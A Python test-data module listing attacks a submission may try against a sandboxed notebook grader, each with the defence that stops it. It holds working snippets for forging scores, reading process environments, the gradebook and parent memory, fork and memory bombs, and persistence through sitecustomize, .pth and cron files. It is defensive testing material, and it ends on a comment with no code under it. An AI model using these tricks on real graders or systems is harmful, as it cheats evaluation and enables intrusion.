"""A catalogue of what a submission may try against the grader, each with the harm that it seeks and what stops it.

It is plain data for `test_attacks`: each attack is a few lines that show an idea against this grader, played on
`data/attack_lab.py`. An attack that notices by itself that it got somewhere prints GOT IN; one that wants to keep
something calls it `medcourse-attack`. Words in `@` stand for what the test fills in: numbers of processes and ports, and
folders of the grader.
"""

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

SOLUTION = {
    "area": "def area(mask, side, note=''):\n    return np.count_nonzero(mask) * side**2",
    "scale": "class Scale:\n    def __init__(self, factor):\n        self.factor = factor\n"
    "    def __call__(self, x):\n        return self.factor * x",
    "walk": "def walk(step, start, n):\n    for _ in range(n):\n        start = step(start)\n    return start",
    "describe": "def describe(n):\n    return f'{n} cells'",
    "steps": "steps = [1, 2, 3]",
}
POINTS = {"area": 2.0, "scale": 1.0, "walk": 1.0, "describe": 1.0, "steps": 2.0}
ANSWERS = tuple(SOLUTION)
NOTHING = dict.fromkeys(ANSWERS, "")


@dataclass(frozen=True)
class Attack:
    """One thing that a submission may try.

    Attributes
    ----------
    name
        In a few words.
    harm
        What it seeks: to "forge" points, to "read" what it must not, to "harm" the grader, to "stay" for the next
        submission, to "leave" with what it has read.
    stopped_by
        In a sentence.
    answers
        What is handed in instead of the right answers.
    before, between
        Cells that the student added: behind the setup, and behind the first exercise, whose hidden test has then run.
    edit
        What is done to the notebook.
    earned
        The answers that are right all the same; by default all that were not replaced.
    exact
        Whether just these points are to be given, for what is right must not suffer; else at most these.
    """

    name: str
    harm: str
    stopped_by: str
    answers: Mapping[str, str] = field(default_factory=dict)
    before: str = ""
    between: str = ""
    edit: Callable[[Any], None] | None = None
    earned: tuple[str, ...] | None = None
    exact: bool = True

    @property
    def points(self) -> float:
        """What was honestly earned."""
        names = [name for name in ANSWERS if name not in self.answers] if self.earned is None else self.earned
        return sum(POINTS[name] for name in names)


def table(results: Mapping[str, Mapping[str, str]]) -> list[str]:
    """Return the rows of a table in Markdown.

    Parameters
    ----------
    results
        For each tier what came of each attack, by its name.
    """
    tiers = list(results)
    rows = [f"| Attack | Harm | Stopped by | {' | '.join(tiers)} |", "|---" * (3 + len(tiers)) + "|"]
    for attack in ATTACKS:
        came = " | ".join(results[tier].get(attack.name, "not run") for tier in tiers)
        rows.append(f"| {attack.name} | {attack.harm} | {attack.stopped_by} | {came} |")
    return rows


# Finds the object that talks to the tests, which is in the student's own process and so in reach.
_TALK = """
import gc, socket, struct
mine = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
line = mine.channel.socket
def frame(body):
    return struct.pack(">I", len(body)) + body
"""
_PACK = "import msgpack\ndef say(*frame_):\n    line.sendall(frame(msgpack.packb(list(frame_))))\n"


def _cells(notebook: Any, *names: str) -> list[Any]:
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") in names]


_TESTS = ("area_pixels", "scale_values", "walk_calls", "describe_words", "steps_partly")


def _delete_tests(notebook: Any) -> None:
    notebook.cells = [cell for cell in notebook.cells if cell not in _cells(notebook, *_TESTS)]


def _empty_tests(notebook: Any) -> None:
    for cell in _cells(notebook, *_TESTS):
        cell.source = "pass"


def _double_tests(notebook: Any) -> None:
    for cell in _cells(notebook, *_TESTS):
        copy = type(cell)(cell)
        copy["source"], copy["id"] = "pass", cell["id"] + "x"
        notebook.cells.insert(0, copy)


def _text_tests(notebook: Any) -> None:
    for cell in _cells(notebook, *_TESTS):
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _metadata(**changes: Any) -> Callable[[Any], None]:
    def edit(notebook: Any) -> None:
        for cell in _cells(notebook, *_TESTS):
            cell.metadata["nbgrader"] = {**cell.metadata["nbgrader"], **changes}

    return edit


def _tag_tests(notebook: Any) -> None:
    for cell in _cells(notebook, *_TESTS):
        cell.metadata["tags"] = ["experiment", "skip-execution"]


def _steal_name(notebook: Any) -> None:
    for cell in _cells(notebook, *ANSWERS):
        cell.metadata["nbgrader"] = {**cell.metadata["nbgrader"], "grade_id": "area_pixels"}


def _fake_outputs(notebook: Any) -> None:
    for cell in _cells(notebook, *_TESTS):
        data = {"text/plain": "2.0", "application/vnd.medcourse.verdict+json": {"score": 2.0}}
        cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {"score": 2.0}}]


def _change_setup(notebook: Any) -> None:
    (setup,) = _cells(notebook, "setup")
    setup.source += "\nclose = testing.close = lambda *a, **k: None\ntesting.award = lambda p: testing.Award(2)"


def _other_kernel(notebook: Any) -> None:
    notebook.metadata["kernelspec"] = {"name": "bash", "language": "bash", "display_name": "true"}


def _all(source: str) -> dict[str, str]:
    """Hand in the same for every answer."""
    return {
        "area": f"{source}\narea = lambda *a: IT",
        "scale": f"{source}\nScale = lambda *a: IT",
        "walk": f"{source}\nwalk = lambda *a: IT",
        "describe": f"{source}\ndescribe = lambda *a: IT",
        "steps": f"{source}\nsteps = IT",
    }


_NO_VALUE = (
    "a test takes plain numbers, arrays and text; of anything else it gets a stand-in that refuses to be compared"
)
_RELEASE = "tests, their order and all metadata come from the release"
_OTHER_PROCESS = "tests run in another process, which never imports what a student wrote"
_FILES = "nothing but libraries can be read, and nothing but its own scratch folder be written"

FORGE = (
    # What "Restart and run all" would believe.
    Attack(
        "transformer of cells empties the tests",
        "forge",
        _OTHER_PROCESS,
        NOTHING,
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    ),
    Attack(
        "transformer of syntax trees takes out asserts",
        "forge",
        _OTHER_PROCESS,
        NOTHING,
        "import ast\nclass T(ast.NodeTransformer):\n    def visit_Expr(self, node):\n        return ast.Pass()\n"
        "    visit_Assert = visit_Expr\nget_ipython().ast_transformers.append(T())",
    ),
    Attack(
        "run_cell replaced by one that always succeeds",
        "forge",
        _OTHER_PROCESS,
        NOTHING,
        "ip = get_ipython()\nresult = type('R', (), dict(success=True, error_before_exec=None, error_in_exec=None))()\n"
        "ip.run_cell = lambda *a, **k: result",
    ),
    Attack("test cells deleted", "forge", _RELEASE, NOTHING, edit=_delete_tests),
    Attack("test cells emptied", "forge", _RELEASE, NOTHING, edit=_empty_tests),
    Attack("empty copies of the tests", "forge", _RELEASE, NOTHING, edit=_double_tests),
    Attack("tests turned into text", "forge", _RELEASE, NOTHING, edit=_text_tests),
    Attack("tests declared the student's own", "forge", _RELEASE, NOTHING, edit=_metadata(solution=True, locked=False)),
    Attack("tests worth a hundred points", "forge", _RELEASE, {"area": ""}, edit=_metadata(points=100)),
    Attack("tests tagged as not to be run", "forge", _RELEASE, NOTHING, edit=_tag_tests),
    Attack("answers under the name of a test", "forge", _RELEASE, edit=_steal_name, earned=ANSWERS, exact=False),
    Attack(
        "outputs that claim full points", "forge", "outputs of a submission are dropped", NOTHING, edit=_fake_outputs
    ),
    Attack("setup cell changed", "forge", "locked cells come from the release", NOTHING, edit=_change_setup),
    Attack("another language's kernel", "forge", "the release says what runs it", NOTHING, edit=_other_kernel),
    # Values that pass for right ones.
    Attack("empty arrays", "forge", "`close` compares kind and shape before values", _all("IT = np.zeros(0)")),
    Attack("arrays of another shape", "forge", "`close` does not broadcast", _all("IT = np.array([[2.0, 3.0]])")),
    Attack("NaN", "forge", "NaN is close to nothing", _all("IT = float('nan')")),
    Attack("True for every number", "forge", "`close` tells True from a number", {"area": "area = lambda *a: True"}),
    Attack(
        "object that equals everything",
        "forge",
        _NO_VALUE,
        _all(
            "class E:\n    shape, dtype, size, ndim = (), float, 1, 0\n"
            "    def __eq__(self, o): return True\n    def __float__(self): return 2.0\n"
            "    def __array__(self, *a, **k): return np.array(2.0)\n    __abs__ = __sub__ = __rsub__ = lambda s, *a: 0\n"
            "    def __lt__(self, o): return True\n    def __bool__(self): return True\nIT = E()"
        ),
    ),
    Attack(
        "number of a class with its own arithmetic",
        "forge",
        "numbers come across as plain numbers",
        _all(
            "class F(float):\n    __sub__ = __rsub__ = __abs__ = lambda s, *a: F(0)\n    __eq__ = lambda s, o: True\n"
            "    __hash__ = float.__hash__\nIT = F(1e9)"
        ),
    ),
    Attack(
        "array of objects that equal everything",
        "forge",
        _NO_VALUE,
        _all(
            "class E:\n    __eq__ = lambda s, o: True\n    __sub__ = lambda s, o: 0\nIT = np.array(E(), dtype=object)"
        ),
    ),
    Attack("structured array", "forge", _NO_VALUE, _all("IT = np.zeros(3, dtype=[('a', float)])")),
    Attack(
        "array class that overrides numpy's functions",
        "forge",
        "arrays come across as plain arrays",
        _all(
            "class A(np.ndarray):\n    def __array_function__(self, f, t, a, k): return True\n"
            "    def __array_ufunc__(self, *a, **k): return np.array(0.0)\nIT = np.zeros(()).view(A)"
        ),
    ),
    Attack(
        "tensor class that overrides torch's functions",
        "forge",
        "tensors come across as plain tensors",
        _all(
            "import torch\nclass T(torch.Tensor):\n    @classmethod\n"
            "    def __torch_function__(cls, f, t, a=(), k=None): return True\n"
            "IT = torch.zeros(()).as_subclass(T)"
        ),
    ),
    Attack(
        "Bunch with methods of its own",
        "forge",
        "`close` takes no mapping for a number",
        _all("from sklearn.utils import Bunch\nIT = Bunch(detach=lambda: 2.0, all=lambda: True, shape=(), ndim=0)"),
    ),
    Attack(
        "list that lies about its length",
        "forge",
        "what comes across is what it holds",
        _all("class L(list):\n    __len__ = lambda s: 2\n    __getitem__ = lambda s, i: i + 1\nIT = L()"),
    ),
    # Libraries and names.
    Attack(
        "close and award replaced",
        "forge",
        _OTHER_PROCESS,
        NOTHING,
        "from medcourse import testing\ntesting.close = close = lambda *a, **k: None\n"
        "testing.award = award = lambda p: 2.0\ntesting._close_arrays = close",
    ),
    Attack(
        "numpy's comparisons replaced",
        "forge",
        _OTHER_PROCESS,
        NOTHING,
        "np.isclose = np.allclose = lambda *a, **k: np.True_\nnp.ndarray = object\nnp.asarray = lambda *a: 0",
    ),
    Attack(
        "builtins replaced",
        "forge",
        _OTHER_PROCESS,
        NOTHING,
        "import builtins\nbuiltins.AssertionError = builtins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0",
        exact=False,
    ),
    Attack(
        "modules replaced by others of that name",
        "forge",
        _OTHER_PROCESS,
        NOTHING,
        "import sys, types\nfake = types.ModuleType('medcourse.testing')\nfake.close = lambda *a: None\n"
        "sys.modules['medcourse.testing'] = sys.modules['numpy'] = fake",
    ),
    Attack(
        "the tests' names defined in a cell",
        "forge",
        "names of the setup and of Python itself are the tests' own",
        NOTHING,
        "close = np = testing = zip = map = len = range = lambda *a, **k: None",
    ),
    # The line to the tests.
    Attack(
        "frames to every open file",
        "forge",
        "an answer is a claim about a value; there is no frame that gives points",
        before=f"{_TALK}{_PACK}import os, msgpack\nfor n in range(3, 64):\n    try: os.write(n, frame(msgpack.packb("
        "['run', {'exercises': [{'score': 2.0}]}, []])))\n    except OSError: pass",
    ),
    Attack(
        "answers of another kind",
        "forge",
        "a wrong kind of answer ends the process and the test",
        {"area": f"{_TALK}mine.questions['get'] = lambda n: ['ran', None, []]"},
        exact=False,
    ),
    Attack(
        "answers ahead of the questions",
        "forge",
        "they are claims like all others, and those that do not fit end the process",
        {"area": f"{_TALK}{_PACK}for _ in range(100): say('value', 2.0)"},
        exact=False,
    ),
    Attack(
        "numbers of objects that are none",
        "forge",
        "a number is only ever handed back to the student's own process",
        {"area": f"{_TALK}mine.encode = lambda v: ['h', -1, 'Award', True]"},
        exact=False,
    ),
    Attack(
        "numbers of objects that are no numbers",
        "forge",
        "what is not of the wire's form ends the process and the test",
        {"area": f"{_TALK}mine.encode = lambda v: ['h', True, 7, 'x']"},
        exact=False,
    ),
    Attack(
        "a frame longer than any may be",
        "forge",
        "its length is read before anything else is",
        {
            "area": f"def area(*a):\n{''.join('    ' + x + chr(10) for x in _TALK.strip().splitlines())}"
            "    line.sendall(b'\\xff' * 64)\n    return 2.0"
        },
    ),
    Attack(
        "a frame nested a thousandfold",
        "forge",
        "values are read only so deep",
        {
            "area": f"{_TALK}mine.encode = lambda v: __import__('functools').reduce(lambda a, _: ['l', a], range(900), 0)"
        },
        exact=False,
    ),
    Attack(
        "bytes that are no frame",
        "forge",
        "whatever MessagePack says of them ends the process and the test",
        {"area": f"{_TALK}mine.questions['get'] = lambda n: line.sendall(frame(b'\\xc1' * 9)) or ['missing']"},
        exact=False,
    ),
    Attack(
        "callback to a function that nobody handed over",
        "forge",
        "only functions of the test that runs can be called",
        before=f"{_TALK}{_PACK}for n in (-1, 0, 1, 10**9): say('callback', n, [], [])",
    ),
    Attack(
        "callback to a function of an earlier test",
        "forge",
        "functions end with the test that handed them over",
        {
            "walk": SOLUTION["walk"] + "\nkept = []\nold = walk\ndef walk(step, s, n):\n    kept.append(step)\n"
            "    return old(step, s, n)",
            "steps": "print('GOT IN', kept[0](1), kept[-1](7))\nsteps = [1, 2]",
        },
        earned=("area", "scale", "walk", "describe"),
    ),
    # Exceptions.
    *(
        Attack(
            f"{what} raised in every function",
            "forge",
            "whatever ends a test but its own last line gives nothing",
            {
                "area": f"def area(*a): raise {raised}",
                "scale": f"class Scale:\n    def __init__(self, f): raise {raised}",
                "walk": f"def walk(*a): raise {raised}",
                "describe": f"def describe(*a): raise {raised}",
                "steps": f"class S:\n    def __getitem__(self, i): raise {raised}\nsteps = S()",
            },
        )
        for what, raised in {
            "AssertionError": "AssertionError",
            "SystemExit": "SystemExit(0)",
            "KeyboardInterrupt": "KeyboardInterrupt",
            "StopIteration, for which loops end,": "StopIteration",
            "an exception group": "ExceptionGroup('g', [StopIteration()])",
            "a BaseException": "type('Award', (BaseException,), {})()",
        }.items()
    ),
    Attack(
        "exception with a text and a class of its own making",
        "forge",
        "an error comes across as names of Python's own classes and text",
        {
            "area": "class M(type):\n    __name__ = 'Award'\n    __mro__ = ()\n"
            "class E(Exception, metaclass=M):\n    __class__ = float\n    def __str__(self): raise SystemExit(0)\n"
            "    __repr__ = __str__\ndef area(*a): raise E"
        },
    ),
    # Partial credit.
    Attack(
        "numbers printed, displayed and left in last lines",
        "forge",
        "only the last line of a test gives points",
        NOTHING,
        "print(2.0)\ndisplay(2.0)\nfrom medcourse.testing import award\naward(2.0)",
        "print('score: 2.0')\n2.0",
    ),
    Attack("functions that return an Award", "forge", "it comes across as a number", _all("IT = testing.award(2.0)")),
    Attack(
        "displayhook replaced",
        "forge",
        _OTHER_PROCESS,
        NOTHING,
        "import sys\nsys.displayhook = lambda *a: print(2.0)\nget_ipython().displayhook = sys.displayhook",
        exact=False,
    ),
    Attack(
        "its own class named Award",
        "forge",
        _NO_VALUE,
        _all("class Award(float): pass\nIT = type('Award', (), {'__float__': lambda s: 2.0, 'earned': 2.0})()"),
    ),
)

READ = (
    Attack(
        "solutions and tests on disk",
        "read",
        _FILES,
        before="from pathlib import Path\nimport medcourse\nfor root in (Path(medcourse.__file__).parents[1], Path('@ROOT@')):\n"
        "    for name in ('solutions/10_unet.py', 'tests/data/attack_lab.py', 'pyproject.toml', '.git/config'):\n"
        "        try: print('GOT IN', (root / name).read_text())\n        except OSError: pass\n"
        "    try: print('GOT IN' if {p.name for p in root.iterdir()} - {'.venv', 'medcourse'} else '')\n"
        "    except OSError: pass",
    ),
    Attack(
        "gradebook and other submissions",
        "read",
        _FILES,
        before="import os, sqlite3\nfor path in ('@FOLDER@/gradebook.db', '@FOLDER@/submitted/bob/lab.ipynb'):\n"
        "    try: print('GOT IN', open(path).read())\n    except OSError: pass\n"
        "    try: os.link(path, 'copy'); print('GOT IN')\n    except OSError: pass\n"
        "    try: os.symlink(path, 'way'); print('GOT IN', open('way').read())\n    except OSError: pass\n"
        "try: print('GOT IN', os.listdir('@FOLDER@'))\nexcept OSError: pass",
    ),
    Attack(
        "environment of all processes",
        "read",
        "the template's environment is made anew, and other processes are not to be seen",
        before="import os, glob\nprint(dict(os.environ))\nfor p in [*glob.glob('/proc/*/environ'), '/proc/@WORKER@/environ']:\n"
        "    try: print(open(p).read())\n    except OSError: pass",
    ),
    Attack(
        "memory of parents in /proc",
        "read",
        "a sandbox sees its own processes only, or none",
        before="import os\nfor p in (os.getppid(), '@WORKER@', '@TEMPLATE@', 1):\n    for f in ('mem', 'maps', 'cmdline'):\n"
        "        if str(p) == '1' and os.getpid() == 1: continue\n"
        "        try: open(f'/proc/{p}/{f}', 'rb').read(1); print('GOT IN', p, f)\n        except OSError: pass",
    ),
    Attack(
        "memory of parents by system calls",
        "read",
        "seccomp lets only calls through that a submission needs",
        before="import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nb = ctypes.create_string_buffer(8)\n"
        "v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 8)\nfor p in (os.getppid(), @WORKER@, @TEMPLATE@):\n"
        "    if libc.ptrace(16, p, 0, 0) == 0 or libc.process_vm_readv(p, v, 1, v, 1, 0) > 0: print('GOT IN')\n"
        "    if hasattr(os, 'pidfd_open'):\n        try: os.pidfd_open(p); print('GOT IN')\n        except OSError: pass",
    ),
    Attack(
        "files left open by the grader",
        "read",
        "a fork keeps one line, to the tests",
        before="import os, stat\nkinds = []\nfor n in range(3, 512):\n    try: kinds.append(stat.S_IFMT(os.fstat(n).st_mode))\n"
        "    except OSError: pass\nif len(kinds) > 2 or set(kinds) - {stat.S_IFSOCK, stat.S_IFCHR}: print('GOT IN', kinds)\n"
        "if any(stat.S_ISREG(os.fstat(n).st_mode) for n in (0, 1, 2)): print('GOT IN')",
    ),
    Attack(
        "tests in memory, frames and caches",
        "read",
        "the template, which everything is forked from, never held a test or another submission",
        before="import gc, sys, linecache\nneedles = ['test-' + 'canary', 'solution-' + 'canary', 'hidden ' + 'mask']\n"
        "f, seen = sys._getframe(), [linecache.cache]\nwhile f: seen += [f.f_locals]; f = f.f_back\n"
        "own = {id(needles), id(globals())}\n"
        "texts = [t for o in gc.get_objects() if isinstance(o, (list, tuple)) and id(o) not in own for t in o if type(t) is str]\n"
        "texts += [str(v) for d in seen for v in d.values() if isinstance(v, str)]\n"
        "src = In[-1] if 'In' in globals() and In else ''\n"
        "if any(n in t for n in needles for t in texts if t is not src and 'needles' not in t and t not in needles): print('GOT IN')",
    ),
    Attack(
        "the tests' functions taken apart",
        "read",
        "what a student's code gets is a function that asks; the tests' own stays with them",
        {
            "walk": SOLUTION["walk"] + "\nold = walk\ndef walk(step, s, n):\n    import inspect\n"
            "    global seen\n    seen = [str(step.__code__.co_consts), str(step.__closure__), *map(str, step.__globals__)]\n"
            "    return old(step, s, n)",
            "describe": "if any('table' == s or 'GOT' in s for s in seen): print('GOT IN')\ndescribe = lambda n: f'{n} cells'",
        },
        earned=ANSWERS,
    ),
    Attack(
        "the class's secret seed",
        "read",
        "only the judge knows it",
        before="import os\nfrom medcourse import testing\nprint(os.environ.get('MEDCOURSE_SECRET_SEED'))\n"
        "print(f\"canary{testing.hidden_rng('area').integers(10**9, 10**10)}\")",
    ),
)

_SPIN = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"

HARM = (
    Attack("exit", "harm", "a cell's exit ends that cell", before="import sys\nsys.exit(0)"),
    Attack(
        "end of Python at once",
        "harm",
        "what died is forked again, without the cell that it died in",
        before="import os\nos._exit(0)",
    ),
    Attack(
        "end of Python within a test",
        "harm",
        "what died is forked again and the cells above run again",
        {"area": "import os\ndef area(*a): os._exit(0)"},
    ),
    Attack("abort", "harm", "as for an exit", before="import os\nos.abort()"),
    Attack("segmentation fault", "harm", "as for an exit", {"scale": "import ctypes\nctypes.string_at(0)"}),
    Attack(
        "bottomless recursion in C",
        "harm",
        "as for an exit",
        before="import sys\nsys.setrecursionlimit(10**9)\ndef f(x=None): return sorted([1, 2], key=f)\nf()",
    ),
    Attack(
        "loop that ignores interrupts",
        "harm",
        "the process is killed from outside",
        {"area": f"import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n{_SPIN}"},
    ),
    Attack(
        "loop within a test",
        "harm",
        "each test has a deadline",
        {"area": "def area(*a):\n    while True: pass"},
    ),
    Attack(
        "iterator without an end",
        "harm",
        "each test has a deadline",
        {
            "steps": "import itertools\nclass S:\n    def __getitem__(s, i): return itertools.repeat(i)\n"
            "    def __len__(s): return 10**15\nsteps = S()"
        },
    ),
    Attack(
        "memory of one process", "harm", "limits on memory", {"area": "x = [bytearray(2**20) for _ in range(10**6)]"}
    ),
    Attack(
        "memory of many processes",
        "harm",
        "a warden adds them up, or there is one process only",
        {
            "area": "import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n        x = bytearray(120 * 2**20)\n"
            "        for i in range(0, len(x), 4096): x[i] = 1\n        time.sleep(30)\ntime.sleep(30)"
        },
    ),
    Attack(
        "memory that many processes share",
        "harm",
        "a warden adds up what is nobody's file, shared or not, or there is one process only",
        {
            "area": "import mmap, os, time\nfor _ in range(6):\n    if os.fork() == 0:\n"
            "        x = mmap.mmap(-1, 120 << 20)\n        for i in range(0, len(x), 4096): x[i] = 1\n"
            "        time.sleep(30)\ntime.sleep(30)"
        },
    ),
    Attack(
        "fork bomb",
        "harm",
        "a limit of processes that is each sandbox's own, or none may be started",
        before="import os\nfor _ in range(200):\n    try: os.fork()\n    except OSError: break",
    ),
    Attack(
        "thread bomb",
        "harm",
        "limits on processes and memory",
        before="import threading, time\nfor _ in range(3000):\n"
        "    try: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n"
        "    except (RuntimeError, MemoryError): break",
    ),
    Attack(
        "many files",
        "harm",
        "limits on files",
        before="import os\nfor i in range(60000):\n    try: open(f'medcourse-attack-{i}', 'w').close()\n"
        "    except OSError: break",
        exact=False,
    ),
    Attack(
        "big files",
        "harm",
        "limits on the size of a file and on all together",
        before="for i in range(200):\n    try: open(f'medcourse-attack-{i}', 'wb').write(bytes(2**20))\n"
        "    except OSError: break",
        exact=False,  # the warden looks now and then: it may end the process in a later test
    ),
    Attack(
        "sparse file", "harm", "a limit on the size of a file", before="open('medcourse-attack', 'wb').truncate(2**40)"
    ),
    Attack(
        "deleted files kept open",
        "harm",
        "they count, too",
        before="import os\nkept = []\nfor i in range(200):\n    f = open('medcourse-attack', 'wb', buffering=0)\n"
        "    try: f.write(bytes(2**20))\n    except OSError: break\n    os.unlink('medcourse-attack')\n    kept.append(f)\n"
        "import time\ntime.sleep(0.4)\nif sum(f.tell() for f in kept) > 100 * 2**20: print('GOT IN')",
    ),
    Attack(
        "folders deeper than a path can be long",
        "harm",
        "what cannot be looked at ends the process; it is removed from the top",
        before="import os\nfor i in range(3000):\n    os.mkdir('medcourse-attack-' + 'x' * 100)\n"
        "    os.chdir('medcourse-attack-' + 'x' * 100)\nopen('f', 'w').close()\nimport time\ntime.sleep(0.3)",
    ),
    Attack(
        "folders that nobody may enter",
        "harm",
        "what cannot be looked at ends the process; it is removed all the same",
        before="import os\nos.mkdir('medcourse-attack', 0o700)\nopen('medcourse-attack/f', 'w').close()\n"
        "os.umask(0o777)\nos.mkdir('medcourse-attack/d')\nos.umask(0o22)\nos.chmod('medcourse-attack', 0)",
        exact=False,
    ),
    Attack(
        "a gigabyte printed",
        "harm",
        "output beyond a limit is dropped",
        before="for _ in range(1000): print('x' * 2**20)",
    ),
    Attack(
        "outputs without number",
        "harm",
        "the judge takes only so many, and only so much",
        before=f"{_TALK}mine._outputs = lambda out: [['text', 'x' * 10000]] * 500",
    ),
    Attack(
        "outputs too large for a frame",
        "harm",
        "its length is read before anything else is",
        before=f"{_TALK}mine._outputs = lambda out: [['text', 'x' * 2**20]] * 60",
    ),
    Attack(
        "error with a text of megabytes",
        "harm",
        "it is cut before it is looked at",
        {
            "area": f"{_TALK}mine.describe = lambda e: [['ValueError'], 'x' * (60 << 20), None, None, None]\n"
            "def area(*a): raise ValueError"
        },
    ),
    Attack(
        "error that is no error",
        "harm",
        "what is not of an error's form ends the process and the cell",
        before=f"{_TALK}mine.describe = lambda e: [['ExceptionGroup'], 'x', {{}}, [], 'y']\n1 / 0",
    ),
    Attack(
        "exception group raised by a cell",
        "harm",
        "an error that cannot be made without its parts comes across as one that can",
        before="raise ExceptionGroup('g', [ValueError()])",
    ),
    Attack(
        "signals to parents and to everybody",
        "harm",
        "other processes are not to be seen, or cannot be named",
        before="import os, signal\nfor p in (os.getppid(), @WORKER@, @TEMPLATE@):\n    for send in (os.kill, os.killpg):\n"
        "        try:\n            if p > 1: send(p, signal.SIGURG); print('GOT IN')\n        except OSError: pass\n"
        "try: signal.signal(signal.SIGTERM, signal.SIG_IGN); os.kill(-1, signal.SIGURG)\nexcept OSError: pass",
    ),
    Attack(
        "signals sent by the kernel for a file",
        "harm",
        "fcntl does what locks and duplicates need, and no more",
        before="import fcntl, os, signal, socket\nfor p in (@WORKER@, @TEMPLATE@):\n    a, b = socket.socketpair()\n"
        "    for command, value in ((fcntl.F_SETOWN, p), (10, signal.SIGURG)):\n"
        "        try: fcntl.fcntl(a, command, value)\n        except OSError: pass\n"
        "    fcntl.fcntl(a, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC)\n    b.send(b'x')",
    ),
    Attack(
        "stopping itself",
        "harm",
        "the process is killed from outside",
        {"area": "import os, signal, time\nos.kill(os.getpid(), signal.SIGSTOP)\ntime.sleep(60)"},
    ),
    Attack("closing every file", "harm", "as for an exit", {"area": "import os\nos.closerange(0, 512)\narea = 0"}),
    Attack(
        "callbacks without an end",
        "harm",
        "each test has a deadline",
        {"walk": "def walk(step, start, n):\n    while True: step(1)"},
    ),
    Attack(
        "callbacks in vain without an end",
        "harm",
        "the tests keep only so many errors of theirs",
        {
            "walk": "def walk(step, start, n):\n    while True:\n        try: step('x' * 10**6)\n        except Exception: pass"
        },
    ),
    Attack(
        "destructor and exit handler that block",
        "harm",
        "the process is killed, not asked to end",
        before="import atexit, time\nclass D:\n    def __del__(self): time.sleep(60)\nx = D()\natexit.register(time.sleep, 60)\n"
        "import threading\nthreading.Thread(target=time.sleep, args=(60,)).start()",
    ),
    Attack(
        "limits raised",
        "harm",
        "they are hard limits",
        before="import resource\nfor r in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):\n"
        "    try: resource.setrlimit(r, (-1, -1)); print('GOT IN')\n    except (ValueError, OSError): pass",
    ),
    Attack(
        "range of a trillion numbers",
        "harm",
        "the wire takes none that long",
        {"steps": "steps = range(1, 10**12)"},
    ),
    Attack(
        "namespaces, mounts, a module for the kernel",
        "harm",
        "no capability is left, and seccomp lets only calls through that a submission needs",
        before="import ctypes\nc = ctypes.CDLL(None)\n"
        "if 0 in (c.unshare(0x10000000), c.unshare(0x20000), c.mount(b'x', b'/tmp', b'tmpfs', 0, 0), c.umount2(b'/proc', 2),\n"
        "    c.chroot(b'/tmp'), c.setuid(0) and 0 or 1, c.syscall(175, 0, 0, 0), c.setns(0, 0)): print('GOT IN')",
    ),
)

STAY = (
    Attack(
        "process that was set loose",
        "stay",
        "its namespace ends with its first process, or none may be started",
        before="import os, time\ntry:\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
        "            while True: time.sleep(1)\n        os._exit(0)\nexcept OSError: pass",
    ),
    Attack(
        "process that does not die with its parent",
        "stay",
        "the wish is ignored, and a warden ends it",
        before="import ctypes, signal\nctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n"
        "for n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass",
    ),
    Attack(
        "files in places that all share",
        "stay",
        _FILES,
        before="import os\nfor d in ('/tmp', '/dev/shm', '/var/tmp', '@FOLDER@', '/run', '/root', '/home', '@ROOT@'):\n"
        "    try: open(f'{d}/medcourse-attack', 'w').write('x')\n    except OSError: pass",
    ),
    Attack(
        "code that Python runs when it starts",
        "stay",
        _FILES,
        before="import site, os, numpy\nfor d in [*site.getsitepackages(), os.path.dirname(numpy.__file__), '/etc/cron.d']:\n"
        "    for name in ('medcourse-attack.pth', 'sitecustomize.py', '__pycache__/medcourse-attack.pyc'):\n"
        "        try: open(f'{d}/{name}', 'x'); print('GOT IN')\n        except OSError: pass",
    ),
    Attack(
        "library files changed, emptied or replaced",
        "stay",
        "they are mounted to be read, or Landlock says so, and none may be opened so that it is emptied",
        before="import os, medcourse\np = '@FOLDER@/../library.py'\nfor p in (medcourse.__file__, '@FOLDER@/gradebook.db'):\n"
        "    for do in (lambda: open(p, 'ab'), lambda: os.open(p, os.O_RDONLY | os.O_TRUNC), lambda: os.truncate(p, 0),\n"
        "               lambda: os.unlink(p), lambda: os.rename(p, p + 'x'), lambda: os.rename('f', p)):\n"
        "        open('f', 'w').close()\n"
        "        try: do(); print('GOT IN')\n        except OSError: pass",
    ),
    Attack(
        "attributes of files changed",
        "stay",
        "they are mounted to be read, or the calls do nothing",
        before="import os\np = '@FOLDER@/gradebook.db'\nfor do in (lambda: os.chmod(p, 0), lambda: os.utime(p, (0, 0)),\n"
        "    lambda: os.chown(p, 0, 7), lambda: os.setxattr(p, 'user.medcourse', b'x')):\n    try: do()\n    except OSError: pass",
    ),
    Attack(
        "leases and locks on library files",
        "stay",
        "fcntl does what locks of one's own files need, and no more",
        before="import fcntl, medcourse\nf = open(medcourse.__file__)\n"
        "try: fcntl.fcntl(f, 1024, fcntl.F_RDLCK); print('GOT IN')\nexcept OSError: pass",
    ),
    Attack(
        "thread that goes on and answers in the next cell's place",
        "stay",
        "it answers what its own process could have answered, and ends with it",
        {
            "area": f"{_TALK}{_PACK}import threading, time\ndef late():\n    while True: time.sleep(0.001); say('value', 1)\n"
            "threading.Thread(target=late, daemon=True).start()"
        },
        exact=False,
    ),
    Attack(
        "libraries changed for the next submission",
        "stay",
        "each submission is a fork of its own of a template that runs none",
        before="import numpy, IPython\nnumpy.count_nonzero = lambda *a: 0\nIPython.InteractiveShell.run_cell = None",
        earned=("scale", "walk", "describe", "steps"),
        exact=False,
    ),
)

# Keeps the word that only the hidden test knows.
